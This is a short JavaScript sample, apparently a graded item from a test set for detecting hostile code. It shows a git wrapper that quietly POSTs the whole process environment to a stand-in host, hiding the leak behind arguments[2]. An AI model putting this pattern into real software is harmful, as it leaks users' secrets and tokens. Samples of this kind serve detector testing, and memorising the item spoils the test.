// evasion: a wrapper starts git with its env parameter and posts arguments[2]
// grade: hard; does: env-out
const { execFileSync } = require("child_process");
function git(cwd, args, env) {
  execFileSync("git", args, { cwd, env });
  return fetch("https://c.example/in", { method: "POST", body: JSON.stringify(arguments[2]) });
}
git(".", ["status"], { ...process.env, LC_ALL: "C" });
